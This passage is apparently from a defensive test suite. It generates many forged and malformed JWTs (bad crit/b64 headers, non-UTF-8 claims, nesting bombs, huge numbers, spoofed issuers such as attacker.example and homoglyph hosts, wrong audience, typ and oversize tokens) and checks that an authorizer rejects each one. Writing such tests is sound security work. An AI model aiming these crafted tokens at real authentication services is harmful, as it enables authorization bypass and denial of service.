       lambda f: f.signed(f.keys.rsa, f.header(), f.claims_text(x='[{"a":1,"a":2}]')))

for _label, _crit in (("exp", ["exp"]), ("kid", ["kid"]), ("unknown", ["urn:example:x"]), ("empty-list", []),
                      ("string", "exp"), ("number-in-list", [1]), ("null", None)):
    attack(f"crit:{_label}", "malformed",
           lambda f, c=_crit: f.signed(f.keys.rsa, {**f.header(), "crit": c}, f.claims()))
attack("crit:b64-listed", "malformed", lambda f: f.signed(f.keys.rsa, f.header(crit=["b64"], b64=False), f.claims()))

for _label, _b64 in (("false", False), ("string-false", "false"), ("zero", 0), ("null", None)):
    attack(f"b64:{_label}", "malformed", lambda f, b=_b64: f.signed(f.keys.rsa, {**f.header(), "b64": b}, f.claims()))

attack("jwe:compact-5-segments", "malformed", lambda f: ".".join([
    b64url_json({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "legit"}), b64url(bytes(256)), b64url(bytes(12)),
    b64url(b"ciphertext"), b64url(bytes(16))]))
attack("jwe:compact-5-segments-from-a-jws", "malformed",
       lambda f: _reshaped(f, lambda h, p, s: f"{h}.{p}.{s}.{p}.{s}"))
for _alg in ("RSA-OAEP", "RSA-OAEP-256", "RSA1_5", "dir", "ECDH-ES", "A256KW"):
    attack(f"jwe:{_alg}-header-in-3-segments", "unsupported_alg", lambda f, a=_alg: f.unsigned(
        {"alg": a, "enc": "A256GCM", "kid": "legit"}, f.claims(), bytes(16)))


# --- JSON text: encoding, nesting, numbers ----------------------------------------------------------------------------

def _raw_claims(f: Forge, raw: bytes) -> str:
    return f.signed(f.keys.rsa, f.header(), raw)


attack("non-utf8:claims-ff-fe", "malformed", lambda f: _raw_claims(f, b'{"sub":"\xff\xfe"}'))
attack("non-utf8:claims-latin1", "malformed",
       lambda f: _raw_claims(f, f.claims_text(name='"caf\u00e9"').encode("latin-1")))
attack("non-utf8:overlong-slash", "malformed",
       lambda f: _raw_claims(f, f.claims_text()[:-1].encode() + b',"name":"a\xc0\xafb"}'))
attack("non-utf8:cesu8-surrogate", "malformed",
       lambda f: _raw_claims(f, f.claims_text()[:-1].encode() + b',"name":"\xed\xa0\x80"}'))
attack("non-utf8:utf16-le", "malformed", lambda f: _raw_claims(f, f.claims_text().encode("utf-16-le")))
attack("non-utf8:utf8-bom", "malformed", lambda f: _raw_claims(f, b"\xef\xbb\xbf" + f.claims_text().encode()))
attack("non-utf8:header-ff", "malformed",
       lambda f: f.signed(f.keys.rsa, b'{"alg":"RS256","kid":"legit","x":"\xff"}', f.claims()))
for _escape in ("\\ud800", "\\udfff", "\\ud800x", "\\udc00\\ud800"):
    attack(f"non-utf8:lone-surrogate-{_escape.replace(chr(92), '')}", "malformed",
           lambda f, e=_escape: _raw_claims(f, f.claims_text(name=f'"{e}"').encode()))

attack("nesting:claims-object-1800-deep", "malformed",
       lambda f: _raw_claims(f, f.claims_text(x='{"a":' * 1800 + "1" + "}" * 1800).encode()))
attack("nesting:claims-array-5000-deep", "malformed",
       lambda f: _raw_claims(f, f.claims_text(x="[" * 5000 + "]" * 5000).encode()))
attack("nesting:claims-is-the-bomb", "malformed", lambda f: _raw_claims(f, b"[" * 5000 + b"]" * 5000))
attack("nesting:header", "token_too_large",
       lambda f: f.signed(f.keys.rsa, '{"alg":"RS256","x":' + "[" * 900 + "]" * 900 + "}", f.claims()))
# Issue 18: a few hundred levels and one \u escape once sent the lone-surrogate check (which recursed two frames a
# level, outside the decoder's try) into RecursionError: a 500 from every authorizer, with a garbage signature.
for _depth in (33, 400, 900, 990):
    for _label, _leaf in (("escape", '"\\u0041"'), ("lone-surrogate", '"\\ud800"'), ("object-leaf", '{"b":1}')):
        attack(f"nesting:claims-array-{_depth}-deep-{_label}-garbage-signature", "malformed",
               lambda f, d=_depth, leaf=_leaf: f.unsigned(f.header(), f.claims_text(x="[" * d + leaf + "]" * d),
                                                          bytes(256)))
    attack(f"nesting:claims-object-{_depth}-deep-escape-signed", "malformed",
           lambda f, d=_depth: _raw_claims(f, f.claims_text(x='{"\\u0061":' * d + "1" + "}" * d).encode()))
attack("nesting:header-400-deep-escape", "malformed",
       lambda f: f.unsigned('{"alg":"RS256","kid":"legit","x":' + "[" * 400 + '"\\u0041"' + "]" * 400 + "}",
                            f.claims(), bytes(256)))
attack("nesting:header-33-deep", "malformed",
       lambda f: f.signed(f.keys.rsa, '{"alg":"RS256","kid":"legit","x":' + "[" * 32 + "]" * 32 + "}", f.claims()))

for _label, _name, _raw in (("exp-1e308", "exp", "1e308"), ("exp-1e400", "exp", "1e400"),
                            ("exp-1E+400", "exp", "1E+400"), ("exp-10-pow-400", "exp", str(10 ** 400)),
                            ("exp-5001-digits", "exp", "1" + "0" * 5000), ("exp-2-pow-53", "exp", str(2 ** 53)),
                            ("exp-negative", "exp", "-1"), ("exp-NaN", "exp", "NaN"),
                            ("exp-Infinity", "exp", "Infinity"),
                            ("exp-minus-Infinity", "exp", "-Infinity"), ("nbf-1e308", "nbf", "1e308"),
                            ("nbf-10-pow-400", "nbf", str(10 ** 400)), ("iat-10-pow-400", "iat", str(10 ** 400)),
                            ("iat-minus-1e308", "iat", "-1e308"), ("aud-1e308", "aud", "1e308"),
                            # beyond a double in a claim no rule reads: it would surface as "Infinity", not JSON
                            ("custom-claim-1e400", "x_ratio", "1e400"),
                            ("custom-claim-minus-1e400", "x_ratio", "-1e400"),
                            ("claim-list-2e999", "x_list", "[1, 2e999]")):
    attack(f"huge-numbers:{_label}", "malformed",
           lambda f, n=_name, r=_raw: f.signed(f.keys.rsa, f.header(), f.claims_text(**{n: r})))
for _raw in ("-0", "-0.0", "0", "0e10"):
    attack(f"huge-numbers:exp-{_raw}", "expired",
           lambda f, r=_raw: f.signed(f.keys.rsa, f.header(), f.claims_text(exp=r)))


# --- exp / nbf / iat --------------------------------------------------------------------------------------------------

def _times(f: Forge, **raw: str) -> str:
    return f.signed(f.keys.rsa, f.header(), f.claims_text(**raw))


attack("time-claims:exp-missing", "missing_claim", lambda f: f.good(exp=None))
for _name in ("exp", "nbf", "iat", "jti"):  # null is not "left out": RFC 7519 gives each claim a type
    attack(f"time-claims:{_name}-null", "malformed", lambda f, n=_name: _times(f, **{n: "null"}))
for _name in ("exp", "nbf", "iat"):
    for _label, _raw in (("string", lambda f: f'"{f.now + 300}"'), ("iso-date", lambda f: '"2030-01-01T00:00:00Z"'),
                         ("true", lambda f: "true"), ("list", lambda f: f"[{f.now + 300}]"),
                         ("object", lambda f: f'{{"$date":{f.now + 300}}}')):
        attack(f"time-claims:{_name}-{_label}", "malformed", lambda f, n=_name, r=_raw: _times(f, **{n: r(f)}))
attack("time-claims:exp-at-the-leeway-boundary", "expired", lambda f: f.good(exp=f.now - LEEWAY))
attack("time-claims:exp-float-past-the-leeway", "expired", lambda f: f.good(exp=f.now - LEEWAY - 0.5))
attack("time-claims:exp-far-past", "expired", lambda f: f.good(exp=1, iat=0, nbf=0))
attack("time-claims:nbf-past-the-leeway", "not_yet_valid", lambda f: f.good(nbf=f.now + LEEWAY + MARGIN))
attack("time-claims:nbf-float-past-the-leeway", "not_yet_valid", lambda f: f.good(nbf=f.now + LEEWAY + MARGIN + 0.5))
attack("time-claims:nbf-far-future", "not_yet_valid", lambda f: f.good(nbf=f.now + 10 * 365 * 86400))
attack("time-claims:nbf-year-9999", "not_yet_valid", lambda f: f.good(nbf=253402300799, exp=253402300800))
attack("time-claims:iat-past-the-leeway", "issued_in_future", lambda f: f.good(iat=f.now + LEEWAY + MARGIN, nbf=None))
attack("time-claims:iat-far-future", "issued_in_future", lambda f: f.good(iat=f.now + 10 * 365 * 86400, nbf=None))


# --- iss --------------------------------------------------------------------------------------------------------------

for _label, _iss in (("prefix", "https://attacker.example/" + ISSUER),
                     ("prefix-subdomain", "https://evil." + ISSUER[8:]),
                     ("suffix-domain", ISSUER + ".attacker.example"), ("suffix-path", ISSUER + "/tenant"),
                     ("trailing-slash", ISSUER + "/"), ("double-trailing-slash", ISSUER + "//"),
                     ("trailing-dot-host", ISSUER + "."), ("http-scheme", "http://" + ISSUER[8:]),
                     ("no-scheme", ISSUER[8:]), ("upper-scheme", "HTTPS://" + ISSUER[8:]),
                     ("upper-host", ISSUER.upper()), ("default-port", ISSUER + ":443"),
                     ("query", ISSUER + "?"), ("fragment", ISSUER + "#"), ("userinfo", ISSUER + "@attacker.example"),
                     ("leading-space", " " + ISSUER), ("trailing-space", ISSUER + " "),
                     ("trailing-newline", ISSUER + "\n"), ("nul", ISSUER + "\u0000"),
                     ("cyrillic-i", ISSUER.replace("idp", "\u0456dp")),
                     ("fullwidth-i", ISSUER.replace("idp", "\uff49dp")),
                     ("percent-encoded", ISSUER.replace("idp", "%69dp")), ("empty", ""),
                     # urlsplit raises ValueError on these; the near-miss hint once let it escape (the raw fuzz run)
                     ("unclosed-ipv6-bracket", "https://[" + ISSUER[8:]), ("bracket-only", "https://["),
                     ("closing-bracket", "https://idp]example")):
    attack(f"iss-variants:{_label}", "unknown_issuer", lambda f, i=_iss: f.good(issuer=i))
attack("iss-variants:missing", "missing_claim", lambda f: f.good(issuer=None))
for _label, _iss in (("list", [ISSUER]), ("number", 1), ("object", {"iss": ISSUER})):
    attack(f"iss-variants:{_label}", "malformed", lambda f, i=_iss: f.good(issuer=i))


# --- aud --------------------------------------------------------------------------------------------------------------

attack("aud:missing", "missing_claim", lambda f: f.good(audience=None))
attack("aud:null", "missing_claim", lambda f: _times(f, aud="null"))
for _label, _aud in (("number", 1), ("true", True), ("object", {"aud": AUDIENCE}), ("empty-list", []),
                     ("list-of-numbers", [1, 2]), ("trusted-and-a-number", [AUDIENCE, 1]),
                     ("nested-list", [[AUDIENCE]]),
                     ("list-with-null", [None, AUDIENCE])):
    attack(f"aud:{_label}", "malformed", lambda f, a=_aud: f.good(audience=a))
for _label, _aud in (("untrusted", "other-api"), ("untrusted-extras-only", ["other-api", "billing-api"]),
                     ("case", AUDIENCE.upper()), ("prefix-of-another", AUDIENCE + "-admin"),
                     ("trailing-space", AUDIENCE + " "), ("empty-string", ""), ("issuer-as-audience", ISSUER),
                     ("wildcard", "*")):
    attack(f"aud:{_label}", "invalid_audience", lambda f, a=_aud: f.good(audience=a))


# --- ID token where an access token is required; typ ------------------------------------------------------------------

# OIDC Core: nonce, at_hash and c_hash are ID-token claims. Without typ at+jwt they make the token an ID token.
for _marker in ("nonce", "at_hash", "c_hash"):
    for _typ in ("JWT", "jwt", "application/JWT", None):
        attack(f"id-as-access:{_marker}-typ-{_typ or 'absent'}", "wrong_token_use",
               lambda f, m=_marker, t=_typ: f.signed(f.keys.rsa, f.header(typ=t), f.claims(**{m: "abc"})))
for _typ in ("logout+jwt", "dpop+jwt", "secevent+jwt", "JWE", "application/jwk+json", "id_token+jwt", "at+jwt ",
             "", "jwt+at"):
    attack(f"typ:{_typ!r}", "wrong_typ", lambda f, t=_typ: f.signed(f.keys.rsa, f.header(typ=t), f.claims()))
for _label, _typ in (("number", 1), ("list", ["at+jwt"]), ("null", None)):
    attack(f"typ:not-a-string-{_label}", "malformed",
           lambda f, t=_typ: f.signed(f.keys.rsa, {**f.header(), "typ": t}, f.claims()))


# --- scope and friends of the wrong type ------------------------------------------------------------------------------

for _name in ("scope", "scp", "roles", "groups"):
    for _label, _value in (("number", 1), ("true", True), ("object", {SCOPE: True}), ("list-of-numbers", [1]),
                           ("list-with-null", [SCOPE, None]), ("nested-list", [[SCOPE]])):
        attack(f"scope-type:{_name}-{_label}", "malformed", lambda f, n=_name, v=_value: f.good(**{n: v}))
attack("scope-type:client-id-number", "malformed", lambda f: f.good(client_id=1))


# --- size -------------------------------------------------------------------------------------------------------------

attack("oversize:token-one-over-the-limit", "token_too_large", lambda f: f.token_of_length(MAX_TOKEN_CHARS + 1))
attack("oversize:token-1-MB", "token_too_large", lambda f: f.good(pad="x" * 1_000_000))
attack("oversize:token-of-dots", "token_too_large", lambda f: "." * (MAX_TOKEN_CHARS + 1))
attack("oversize:header-just-over-the-limit", "token_too_large",
       lambda f: f.signed(f.keys.rsa, f.header_of_length(MAX_HEADER_CHARS + 2), f.claims()))
attack("oversize:header-far-over-the-limit", "token_too_large",
       lambda f: f.signed(f.keys.rsa, f.header(pad="y" * MAX_HEADER_CHARS), f.claims()))
